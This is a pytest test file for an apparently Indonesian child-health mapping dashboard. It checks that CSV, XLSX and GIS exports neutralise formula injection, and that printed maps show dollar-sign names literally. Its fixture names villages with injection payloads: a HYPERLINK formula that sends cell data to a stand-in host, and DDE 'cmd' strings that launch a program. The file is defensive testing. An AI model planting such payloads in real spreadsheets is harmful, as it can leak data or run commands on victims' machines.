"""Files safe to open: on a boundary file whose names are formulas, no CSV or XLSX the
project writes holds a live formula (priority list, scenario, layer attributes,
``aggregate export``, the release's and the public site's ``rilis.csv``), numbers stay
numbers, and printed maps print ``$...$`` names literally."""

import csv
import io
import json
import zipfile

import geopandas as gpd
import openpyxl
import pypdfium2
import pytest

from dashboard.planner import exports
from dashboard.shell import users
from layers.planning import budget
from layers.printed import MapRequest
from peta_anak.core.safe_cells import FORMULA_START, csv_cell
from tests.aggregate_values import load_aggregates
from tests.boundary_files import import_villages, villages_frame
from tests.release_steps import approve

NAMES = ['=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "+1+2 Desa $x^2$ Satu"]
KECAMATAN = {"61.07.01": "-2+3", "61.07.02": "Dua $\\x^$ Hulu"}  # mathtext would fail on it


def formula_names(engine, settings):
    """The four villages named :data:`NAMES` in kecamatan :data:`KECAMATAN`, their 2025 values
    and a planner (built once: tests/databases.py)."""
    frame = villages_frame()
    frame["nama"] = NAMES
    frame["WADMKC"] = [KECAMATAN[code[:8]] for code in frame["kode"]]
    import_villages(settings, frame)
    load_aggregates(engine)
    users.add(engine, "perencana", "perencana", "rahasia-yang-panjang")


@pytest.fixture
def poisoned(databases, engine, settings):
    databases.load(settings, engine, formula_names)
    return engine


def _check_csv(content: bytes, where: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a number may start with - or +
    assert any("'=HYPERLINK" in cell for row in rows for cell in row), where  # the name is there, as text
    return rows


def _check_xlsx(content: bytes, where: str) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), (where, name)
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = [c.value for sheet in book for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row), where
    assert NAMES[0] in texts and any(isinstance(v, int | float) for v in texts), where


def test_priority_and_scenario_files_hold_no_formula(poisoned):
    user = users.by_name(poisoned, "perencana")
    for fmt, check in (("xlsx", _check_xlsx), ("csv", _check_csv)):
        check(exports.export_priorities(poisoned, user, "2025", fmt).content, f"priority {fmt}")
        programme = budget.Programme("=HYPERLINK(\"x\")", "stunting", "anak", 1000, 50_000)
        check(exports.export_priorities(poisoned, user, "2025", fmt, programme=programme).content, f"scenario {fmt}")
    rows = _check_csv(exports.export_priorities(poisoned, user, "2025", "csv").content, "priority csv")
    assert any(cell.lstrip("-").isdigit() for row in rows[1:] for cell in row)  # numbers stay numbers


def test_layer_attributes_hold_no_formula(poisoned, tmp_path):
    user = users.by_name(poisoned, "perencana")
    for suffix in (".gpkg", ".geojson"):
        path = tmp_path / f"lapisan{suffix}"  # read from a named file: GDAL checks the extension
        path.write_bytes(exports.export_layer(poisoned, user, "stunting", "2025", "desa", suffix).content)
        frame = gpd.read_file(path)
        for column in ("nama", "kecamatan", "keterangan_kelas"):
            assert not any(str(v).startswith(FORMULA_START) for v in frame[column].dropna()), (suffix, column)
        assert csv_cell(NAMES[0]) in set(frame["nama"])
        assert frame["pembilang"].dtype.kind in "iu"


def test_aggregate_export_and_public_csv_hold_no_formula(poisoned, run, tmp_path):
    out = tmp_path / "agregat.csv"
    assert run("aggregate", "export", "--period", "2025", out).exit_code == 0
    _check_csv(out.read_bytes(), "aggregate export")
    result = run("release", "create", "--period", "2025", "--json")
    release = json.loads(result.output)["id"]
    assert run("release", "export", release, tmp_path / "rilis").exit_code == 0
    _check_csv((tmp_path / "rilis" / "rilis.csv").read_bytes(), "rilis.csv")
    approve(poisoned, release)  # only an approved release is built
    assert run("public", "build", tmp_path / "situs").exit_code == 0
    _check_csv((tmp_path / "situs" / "unduh" / "rilis.csv").read_bytes(), "public rilis.csv")


def test_printed_maps_print_dollar_names_literally(poisoned):
    user = users.by_name(poisoned, "perencana")
    for fmt in ("png", "pdf"):
        for level in ("desa", "kecamatan"):
            content = exports.export_map(poisoned, user, MapRequest("stunting", "2025", level, None, None, fmt,
                                                                    "id")).content
            assert content[:4] in (b"%PDF", b"\x89PNG")
    pdf = exports.export_map(poisoned, user, MapRequest("stunting", "2025", "kecamatan", None, None, "pdf", "id"))
    text = pypdfium2.PdfDocument(pdf.content)[0].get_textpage().get_text_range()
    assert "Dua $\\x^$" in text  # literally (the label may wrap before "Hulu")
